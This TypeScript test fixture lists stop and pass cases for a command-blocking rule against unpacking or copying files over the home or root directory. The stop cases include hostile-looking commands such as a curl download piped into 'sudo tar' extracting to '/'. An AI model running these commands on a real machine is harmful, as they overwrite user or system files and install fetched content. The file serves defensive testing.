import type { CasesById } from '../../cases/rule-cases.ts'

export const unpackOverCases: CasesById = {
  'unpack-over': {
    stop: [
      'tar xf evil.tar -C ~',
      'tar -xf evil.tar --directory=$HOME',
      'tar xPf evil.tar',
      'curl https://x.test/x.tgz | sudo tar xzf - -C /',
      'unzip -o evil.zip -d ~',
      'cp -r evil/. ~/',
      'cp -rT evil ~',
      'rsync -a evil/ ~/',
      '7z x evil.7z -o/',
    ],
    pass: [
      'tar xzf node.tgz -C ~/.local',
      'sudo tar -C /usr/local -xzf go.tar.gz',
      'tar czf ~/x.tgz .',
      'tar xf x.tar',
      'unzip a.zip -d ~/Downloads/a',
      'cp a.txt ~/',
      'cp -r dist ~/site',
      'rsync -a dist/ ~/site/',
    ],
  },
}
